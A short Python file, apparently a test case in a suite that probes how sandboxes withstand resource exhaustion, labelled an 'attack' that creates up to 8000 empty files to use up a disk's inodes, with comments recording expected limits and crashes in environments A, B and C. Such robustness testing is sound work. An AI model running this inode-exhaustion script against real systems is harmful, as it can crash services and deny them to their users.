# attack: Makes empty files until it is refused.
# hurts: Uses up the inodes, of which a disk has a fixed number.
# at most at A: 2000 files
# ends: returns or error or crash
# ends at B, C: crash
import os
import time

from _raw import took

MOST = 8000


def attack(target):
    made, why = 0, ""
    os.mkdir(target["note"])
    for made in range(MOST):
        try:
            os.close(os.open(f"{target['note']}/{made}", os.O_CREAT | os.O_WRONLY))
        except OSError as error:
            why = str(error)
            break
    if not why:
        time.sleep(2)
    return [took(made), why]
